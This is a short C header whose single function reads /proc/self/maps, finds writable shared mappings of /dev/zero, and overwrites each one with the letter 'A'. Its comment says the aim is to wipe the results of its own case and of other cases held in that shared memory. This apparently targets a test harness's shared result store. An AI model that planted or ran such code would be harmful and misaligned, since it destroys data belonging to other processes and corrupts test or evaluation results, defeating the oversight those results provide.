/* Writes over all memory that this process shares with others and may write: the results of its case, and whose else are there. */
#ifndef LETTERS_H
#define LETTERS_H

static void write_letters_everywhere(void)
{
	FILE *maps = fopen("/proc/self/maps", "r");
	unsigned long begin[16], end[16];
	char text[512];
	size_t n = 0;

	while (maps && n < 16 && fgets(text, sizeof text, maps))
		if (strstr(text, " rw-s ") && strstr(text, "/dev/zero"))
			n += sscanf(text, "%lx-%lx", &begin[n], &end[n]) == 2;
	if (maps)
		fclose(maps);
	while (n-- > 0)
		memset((void *)begin[n], 'A', end[n] - begin[n]);
}

#endif
